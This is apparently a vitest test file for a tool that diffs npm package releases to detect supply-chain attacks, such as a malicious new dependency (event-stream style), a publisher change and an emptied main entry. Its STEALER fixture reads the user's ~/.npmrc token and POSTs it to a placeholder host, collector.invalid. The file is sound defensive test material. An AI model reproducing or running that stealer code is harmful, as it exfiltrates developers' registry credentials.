import { describe, expect, it } from 'vitest';
import { makeTgz } from '../tarball/testdata/make-tarball.js';
import { analyzeSide } from './analyze-side.js';
import { diffReleases, publishTime } from './diff-releases.js';
import type { GradedTransition } from './metadata/grading.js';
import type { DependencySource } from './new-dependencies.js';

const STEALER = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  'module.exports = function flatMap(stream) { return stream; };',
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');

const INDEX = [
  "const { map } = require('./lib/map.js');",
  'exports.map = map;',
  'exports.through = function through(fn) { return map(fn); };',
  'exports.pipeline = function pipeline(...s) { return s; };',
].join('\n');

const side = (version: string, files: Record<string, string>, extra: Record<string, unknown> = {}) =>
  analyzeSide(
    new Map(
      Object.entries({
        'package.json': JSON.stringify({ name: 'stream-fixture', version, main: 'index.js', ...extra }),
        ...files,
      }).map(([path, text]) => [path, { bytes: new TextEncoder().encode(text) }]),
    ),
  );

const v1 = side('3.3.5', { 'index.js': INDEX, 'lib/map.js': 'exports.map = (fn) => fn;' });

const registry = async (docs: Record<string, { created: string; versions: string[]; index: string }>) => {
  const tarballs = new Map<string, Uint8Array>();
  for (const [name, d] of Object.entries(docs))
    for (const version of d.versions)
      tarballs.set(
        `${name}@${version}`,
        await makeTgz([
          { name: 'package/package.json', content: JSON.stringify({ name, version }) },
          { name: 'package/index.js', content: d.index },
        ]),
      );
  const source: DependencySource = {
    packument: async (name) => {
      const d = docs[name];
      if (!d) return undefined;
      return {
        name,
        'dist-tags': { latest: d.versions[d.versions.length - 1] },
        versions: Object.fromEntries(d.versions.map((v) => [v, { name, version: v, dist: {} }])),
        time: { created: d.created, ...Object.fromEntries(d.versions.map((v) => [v, d.created])) },
      };
    },
    tarball: async ({ name, version }) => tarballs.get(`${name}@${version}`)!,
  };
  return source;
};

const RELEASE = '2026-11-20T12:00:00.000Z';

describe('diffReleases', () => {
  it('calls a release adding a malicious brand-new dependency malicious (event-stream)', async () => {
    const v2 = side(
      '3.3.6',
      { 'index.js': INDEX, 'lib/map.js': 'exports.map = (fn) => fn;' },
      {
        dependencies: { 'flatmap-fixture': '^0.1.0' },
      },
    );
    const source = await registry({
      'flatmap-fixture': { created: '2026-11-19T08:00:00.000Z', versions: ['0.1.1'], index: STEALER },
    });
    const diff = await diffReleases(v1, v2, { dependencies: source, releaseTime: RELEASE });
    expect(diff.to.verdict).toBe('clean');
    expect(diff.transition.verdict).toBe('malicious');
    expect(diff.transition.reasons[0]).toMatch(
      /^new dependency flatmap-fixture@0\.1\.1 is malicious \(score /,
    );
    expect(diff.dependencyLookup).toEqual({ status: 'checked' });
    expect(diff.delta.dependencies.added[0]?.registry).toMatchObject({
      brandNew: true,
      verdict: 'malicious',
    });
  });

  it('leaves a young, clean dependency alone, and names it beside another signal', async () => {
    const source = await registry({
      'young-helper': { created: '2026-11-18T00:00:00.000Z', versions: ['1.0.0'], index: 'exports.a = 1;' },
    });
    const v2 = side(
      '3.4.0',
      { 'index.js': INDEX, 'lib/map.js': 'exports.map = (fn) => fn;' },
      {
        dependencies: { 'young-helper': '^1.0.0' },
      },
    );
    const quiet = await diffReleases(v1, v2, { dependencies: source, releaseTime: RELEASE });
    expect(quiet.transition).toMatchObject({ verdict: 'benign', reasons: [] });
    expect(quiet.delta.dependencies.added[0]?.registry).toMatchObject({ brandNew: true, littleUsed: true });

    const publisher: GradedTransition = {
      kind: 'publisher-change',
      message: '3.4.0 was published by a new account',
      evidence: {
        publisher: 'mallory',
        previous: 'alice',
        knownPublishers: ['alice'],
        trustedPublishing: false,
      },
      severity: 'medium',
      confidence: 'medium',
    };
    const loud = await diffReleases(v1, v2, {
      dependencies: source,
      releaseTime: RELEASE,
      metadata: [publisher],
    });
    expect(loud.transition.verdict).toBe('suspicious');
    expect(loud.transition.reasons).toEqual([
      'new dependency young-helper@1.0.0 is brand new and little used (first published 2 days before this release, 1 version, no repository, no license)',
    ]);
  });

  it('does not look up a dependency that only moved to another field (ajv-formats 1.6.0, 1.6.1)', async () => {
    const looked: string[] = [];
    const source = await registry({
      'young-helper': { created: '2026-11-18T00:00:00.000Z', versions: ['1.0.0'], index: STEALER },
    });
    const counting: DependencySource = {
      ...source,
      packument: (name) => {
        looked.push(name);
        return source.packument(name);
      },
    };
    const files = { 'index.js': INDEX, 'lib/map.js': 'exports.map = (fn) => fn;' };
    const withDependency = side('3.4.0', files, { dependencies: { 'young-helper': '^1.0.0' } });
    const asPeer = side('3.5.0', files, { peerDependencies: { 'young-helper': '^1.0.0' } });
    const both = side('3.5.1', files, {
      dependencies: { 'young-helper': '^1.0.0' },
      peerDependencies: { 'young-helper': '^1.0.0' },
    });
    const moved = await diffReleases(withDependency, asPeer, {
      dependencies: counting,
      releaseTime: RELEASE,
    });
    const again = await diffReleases(asPeer, both, { dependencies: counting, releaseTime: RELEASE });
    expect(looked).toEqual([]);
    expect(moved.transition.verdict).toBe('benign');
    expect(again.transition.verdict).toBe('benign');
    expect(again.delta.dependencies.added).toEqual([
      { name: 'young-helper', field: 'dependencies', to: '^1.0.0' },
    ]);
  });

  it('calls a patch release that empties its main entry suspicious, and a major one benign', async () => {
    const emptied = {
      'index.js': "console.log('no more free work');\n",
      'lib/map.js': 'exports.map = (fn) => fn;',
    };
    const patch = await diffReleases(v1, side('3.3.6', emptied), { dependencies: { skipped: 'offline' } });
    expect(patch.delta.exportsRemoved).toMatchObject({
      mainEmptied: true,
      names: ['map', 'pipeline', 'through'],
      breaking: false,
    });
    expect(patch.transition.verdict).toBe('suspicious');
    expect(patch.transition.reasons).toContain(
      'a compatible (non-major) release empties its main entry (it exports nothing): sabotage or a broken publish',
    );
    const major = await diffReleases(v1, side('4.0.0', emptied));
    expect(major.delta.exportsRemoved.breaking).toBe(true);
    expect(major.transition.verdict).toBe('benign');

    const wiped = await diffReleases(v1, side('3.3.6', { 'README.md': 'gone' }));
    expect(wiped.delta.exportsRemoved.mainRemoved).toBe(true);
    expect(wiped.transition.verdict).toBe('suspicious');
  });

  it('says once why new dependencies were not looked up, and only when there are some', async () => {
    const v2 = side(
      '3.3.6',
      { 'index.js': INDEX, 'lib/map.js': 'exports.map = (fn) => fn;' },
      {
        dependencies: { 'flatmap-fixture': '^0.1.0' },
      },
    );
    const skipped = await diffReleases(v1, v2, { dependencies: { skipped: 'offline' } });
    expect(skipped.dependencyLookup).toEqual({ status: 'skipped', reason: 'offline' });
    expect(skipped.delta.dependencies.added[0]?.registry).toBeUndefined();
    expect((await diffReleases(v1, v1)).dependencyLookup).toEqual({ status: 'none' });
  });

  it('reads a release time from a registry document', () => {
    expect(publishTime({ time: { '1.0.0': RELEASE } }, '1.0.0')).toBe(RELEASE);
    expect(publishTime({ time: { '1.0.0': 'soon' } }, '1.0.0')).toBeUndefined();
    expect(publishTime(undefined, '1.0.0')).toBeUndefined();
  });
});
